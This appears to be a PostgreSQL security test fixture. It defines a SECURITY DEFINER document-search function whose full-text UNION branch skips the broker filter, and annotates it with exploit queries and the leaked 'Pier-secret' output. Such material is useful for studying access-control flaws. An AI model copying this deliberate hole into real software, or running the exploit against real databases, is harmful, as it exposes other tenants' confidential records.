-- The second branch of the search (by text) is not bound to the broker, and the function runs as owner.
-- about: search_documents, documents
-- as: hf_quaydeclare_app
-- exploit: SET customs.broker = 'anchor';
-- exploit: SELECT * FROM customs.search_documents('invoice');
-- shows: invoice Pier-secret
CREATE FUNCTION customs.search_documents(term text) RETURNS TABLE (reference text, title text, body text)
LANGUAGE sql STABLE SECURITY DEFINER SET search_path = customs, pg_temp AS $$
  SELECT d.reference, d.title, d.body FROM customs.documents d
  WHERE d.broker = customs.current_broker() AND d.reference = term
  UNION
  SELECT d.reference, d.title, d.body FROM customs.documents d
  WHERE to_tsvector('simple', d.body) @@ plainto_tsquery('simple', term)
$$;
REVOKE EXECUTE ON FUNCTION customs.search_documents(text) FROM PUBLIC;
GRANT EXECUTE ON FUNCTION customs.search_documents(text) TO hf_quaydeclare_app;
